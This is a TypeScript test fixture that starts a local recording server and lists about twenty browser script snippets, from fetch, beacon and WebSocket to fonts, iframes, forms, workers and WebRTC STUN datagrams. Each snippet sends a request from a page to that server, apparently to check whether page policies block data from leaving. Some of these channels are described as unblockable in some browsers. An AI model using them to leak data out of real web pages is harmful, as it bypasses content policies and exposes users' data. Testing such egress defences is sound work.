import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { after } from "node:test";

/** A server out there that notes whatever comes: paths asked for, connections without a word, datagrams. */
export interface Sink {
  origin: string;
  /** What has come so far, by its name. */
  seen: Set<string>;
}

/** Ways out of a page, each a script that tries it against `sink`, an origin; what comes is told by `/name`. */
export const attacks: Readonly<Record<string, string>> = {
  fetch: 'fetch(sink + "/fetch", { mode: "no-cors" })',
  beacon: 'navigator.sendBeacon(sink + "/beacon", "x")',
  events: 'new EventSource(sink + "/events")',
  socket: 'new WebSocket(sink.replace("http", "ws") + "/socket")',
  image: 'new Image().src = sink + "/image"',
  sound: 'new Audio(sink + "/sound").load()',
  style: 'add("link", { rel: "stylesheet", href: sink + "/style" })',
  import: 'add("style", { textContent: `@import url("${sink}/import")` })',
  background: 'document.body.style.backgroundImage = `url("${sink}/background")`',
  font: 'new FontFace("x", `url("${sink}/font")`).load()',
  script: 'add("script", { src: sink + "/script" })',
  module: 'import(sink + "/module")',
  prefetch: 'add("link", { rel: "prefetch", href: sink + "/prefetch" })',
  frame: 'add("iframe", { src: sink + "/frame" })',
  nested: `add("iframe", { srcdoc: \`<script>new Image().src = "\${sink}/nested"</\` + "script>" })`,
  object: 'add("object", { data: sink + "/object" })',
  form: 'add("iframe", { name: "to" }); add("form", { action: sink + "/form", method: "get", target: "to" }).submit()',
  worker: 'new Worker(URL.createObjectURL(new Blob([`fetch("${sink}/worker", { mode: "no-cors" })`])))',
};

/**
 * Ways that no policy of a page closes in every browser: a connection without a request, and WebRTC. Of these a page is told nothing its program does
 * not have; the documents say so.
 */
export const whispers: Readonly<Record<string, string>> = {
  preconnect: 'add("link", { rel: "preconnect", href: sink })',
  datagram: `(async () => {
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + sink.slice(7) }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription();
  })()`,
};

/** What makes a script of one attack. It never fails: what is refused is refused. */
export const scriptOf = (attack: string, sink: string): string => `(() => {
  const sink = ${JSON.stringify(sink)};
  const add = (name, over) => document.body.appendChild(Object.assign(document.createElement(name), over));
  try { Promise.resolve(${attack.includes(";") && !attack.startsWith("(async") ? `(() => { ${attack} })()` : attack}).catch(() => {}); } catch {}
})()`;

export async function openSink(): Promise<Sink> {
  const seen = new Set<string>();
  const note = (url = ""): void => void seen.add(url.slice(1).replace(/\?.*/, ""));
  const server = createServer((request, response) => {
    note(request.url);
    response.setHeader("access-control-allow-origin", "*").end();
  });
  server.on("upgrade", (request, socket) => {
    note(request.url);
    socket.destroy();
  });
  server.on("connection", () => seen.add("preconnect"));
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  const datagrams = createSocket("udp4", () => seen.add("datagram"));
  datagrams.bind(port, "127.0.0.1");
  await once(datagrams, "listening");
  after(() => {
    server.closeAllConnections();
    server.close();
    datagrams.close();
  });
  return { origin: `http://127.0.0.1:${port}`, seen };
}
